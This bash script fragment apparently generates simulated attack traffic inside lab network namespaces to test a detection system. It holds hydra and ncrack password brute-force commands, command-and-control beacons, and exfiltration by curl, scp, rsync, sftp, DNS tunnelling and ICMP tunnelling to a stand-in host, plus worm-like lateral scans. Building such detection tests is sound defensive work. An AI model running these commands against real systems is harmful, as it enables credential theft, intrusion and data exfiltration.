# Guessing, beacons, exfiltration, worms.
guess() { # guess TIMEOUT SOURCE HOST PASSWORD
  timeout "$1" ip netns exec "$P-att" sshpass -p "$4" ssh -b "$2" $NO_KNOWN_HOSTS \
    -o PreferredAuthentications=password "root@$3" true || true
}
words() {
  printf '%s\n' a b c root admin 123456 password letmein qwerty secret toor pass test guest \
    dragon monkey shadow master hello >"$W/words"
  seq 1000 1200 >>"$W/words"
}
c hydra_ssh bruteforce 198.18.0.10 $V out 1 'hydra -t 4 ssh'
do_hydra_ssh() {
  words
  att hydra -I -t 4 -l root -P "$W/words" ssh://$V
}
c hydra_ssh16 bruteforce 198.18.0.10 $V out 1 'hydra -t 16 ssh'
do_hydra_ssh16() {
  words
  att hydra -I -t 16 -l root -P "$W/words" ssh://$V
}
c ncrack_ssh bruteforce 198.18.0.10 $V out 1 'ncrack ssh'
do_ncrack_ssh() {
  words
  att ncrack -T4 --user root -P "$W/words" ssh://$V
}
c hydra_ftp bruteforce 198.18.0.10 $V out 1 'hydra ftp'
do_hydra_ftp() {
  words
  att hydra -I -t 8 -l root -P "$W/words" ftp://$V
}
c hydra_http bruteforce 198.18.0.10 $V out 1 'hydra http-get'
do_hydra_http() {
  words
  att hydra -I -t 8 -l user -P "$W/words" $V http-get /secret
}
c ssh_slow bruteforce 198.18.0.10 $V out 20 'one ssh guess each 10 s'
do_ssh_slow() {
  local i
  for ((i = 0; i < 40; i++)); do
    guess 1 198.18.0.10 $V x$i &
    sleep 0.5
  done
  wait
}
c ssh_distr bruteforce "$(range 198.18.0 11 20)" $V out 5 'ten sources guess'
do_ssh_distr() {
  local i
  for ((i = 0; i < 100; i++)); do
    guess 3 198.18.0.$((11 + i % 10)) $V x$i &
    sleep 0.15
  done
  wait
}
c ssh_spray bruteforce 198.18.0.10 '*' out 5 'one source, one guess at each of 60 hosts, twice'
do_ssh_spray() {
  local i
  for ((i = 0; i < 120; i++)); do
    guess 3 198.18.0.10 198.19.1.$((1 + i % 60)) x$i &
    sleep 0.12
  done
  wait
}

B=198.19.1.1
F=198.18.9.9
bcn() { timeout 30 ip netns exec "$P-h1" python3 "$HERE/traffic.py" beacon "$@"; }
c beacon5 beacon $B $F out 20 'every 5 s, no jitter'
do_beacon5() { bcn $F 443 0.25 0 80; }
c beacon30 beacon $B $F out 120 'every 30 s, jitter 10 %'
do_beacon30() { bcn $F 443 0.25 0.1 80; }
c beacon60 beacon $B $F out 240 'every 60 s, jitter 20 %'
do_beacon60() { bcn $F 8443 0.25 0.2 80; }
c beacon60j50 beacon $B $F out 240 'every 60 s, jitter 50 %'
do_beacon60j50() { bcn $F 443 0.25 0.5 90; }
c beacon300 beacon $B $F out 1200 'every 5 min, jitter 30 %'
do_beacon300() { bcn $F 443 0.25 0.3 85; }
c beacon_udp beacon $B $F out 120 'datagram every 30 s'
do_beacon_udp() { bcn_udp; }
bcn_udp() {
  local i
  for ((i = 0; i < 80; i++)); do
    echo hi | timeout 1 ip netns exec "$P-h1" nc -u -q0 -w1 $F 5353 || true
    sleep 0.2
  done
}
c callhome beacon "$(range 198.19.1 1 12)" $F out 1 'twelve hosts, one rare place, 3 s'
do_callhome() {
  local i
  for i in $(seq 12); do
    nspy h$i fan 443 0.1 100 $F &
    sleep 0.2
  done
  wait
}

c curl_up exfil $B $F out 1 'curl -T 200 MB at 25 MB/s'
do_curl_up() {
  head -c 200000000 /dev/zero >"$W/z"
  timeout 20 ip netns exec "$P-h1" curl -s -H Expect: --limit-rate 25M -T "$W/z" http://$F/up -o /dev/null
}
c curl_slow exfil $B $F out 20 'curl -T 160 MB over 160 s'
do_curl_slow() {
  head -c 160000000 /dev/zero >"$W/z"
  timeout 14 ip netns exec "$P-h1" curl -s -H Expect: --limit-rate 20M -T "$W/z" http://$F/up -o /dev/null
}
c curl_small exfil $B $F out 20 'curl -T 30 MB over 60 s'
do_curl_small() {
  head -c 30000000 /dev/zero >"$W/z"
  timeout 14 ip netns exec "$P-h1" curl -s -H Expect: --limit-rate 10M -T "$W/z" http://$F/up -o /dev/null
}
c scp_out exfil $B $F out 10 'scp 150 MB to a rare host'
do_scp_out() {
  head -c 150000000 /dev/zero >"$W/z"
  timeout 20 ip netns exec "$P-h1" scp -q -i "$W/user_key" $NO_KNOWN_HOSTS "$W/z" root@$F:"$W/up/z"
}
c rsync_out exfil $B $F out 10 'rsync 150 MB to a rare host'
do_rsync_out() {
  head -c 150000000 /dev/urandom >"$W/z"
  timeout 20 ip netns exec "$P-h1" rsync "$W/z" rsync://$F/up/zz
}
c iodine exfil $B $F out 1 'iodine, 2 MB by names'
do_iodine() { tunnel_iodine; }
tunnel_iodine() {
  (timeout 22 ip netns exec "$P-far" iodined -f -c -P secret 198.18.200.1/24 t.test >"$W/iod" 2>&1 &)
  sleep 1
  (timeout 20 ip netns exec "$P-h1" iodine -f -r -P secret $F t.test >"$W/iod2" 2>&1 &)
  sleep 6
  head -c 2000000 /dev/zero | timeout 12 ip netns exec "$P-h1" nc -q1 -w 2 198.18.200.1 80 || true
  cat "$W/iod2"
}
c dnstxt exfil $B $F out 1 'names of 60 octets to a rare name server, 40/s'
word() { head -c "$1" /dev/urandom | xxd -p; }
do_dnstxt() {
  local i
  for ((i = 0; i < 300; i++)); do
    timeout 1 ip netns exec "$P-h1" dig +tries=1 +time=1 @$F "$(word 20).$(word 25).x.test" TXT >/dev/null || true
  done
}
c icmptun exfil $B $F out 1 'hping3 --icmp -d 1200, 100/s'
do_icmptun() { timeout 20 ip netns exec "$P-h1" hping3 -I eth0 -q --icmp -d 1200 -i u10000 -c 1200 $F; }
c ftp_up exfil $B $F out 10 'sftp put 150 MB'
do_ftp_up() {
  head -c 150000000 /dev/zero >"$W/z"
  echo "put $W/z $W/up/y" | timeout 20 ip netns exec "$P-h1" sftp -q -i "$W/user_key" $NO_KNOWN_HOSTS -b - root@$F
}

c worm445 lateral "$(range 198.19.1 1 6)" '*' in 1 'a worm at 445: h1, then who it reached'
do_worm445() {
  local i
  for i in 1 2 3 4 5 6; do
    nspy h$i fan 445 0.05 500 $(seq -f 198.19.1.%g $((i + 1)) 60) &
    sleep 1
  done
  wait
}
c worm_dead lateral 198.19.1.1 '*' in 1 'a worm at 445 where most hosts do not exist'
do_worm_dead() { nspy h1 fan 445 0 500 $(seq -f 198.19.1.%g 2 12) $(seq -f 198.19.0.%g 10 30) \
  $(seq -f 198.19.3.%g 1 6); }
c ssh_hop lateral 198.19.1.1 '*' in 1 'ssh with a key to 59 hosts, one each 0.2 s'
do_ssh_hop() {
  local i
  for i in $(seq 2 60); do
    ssh_to h1 root@198.19.1.$i true || true
    sleep 0.1
  done
}
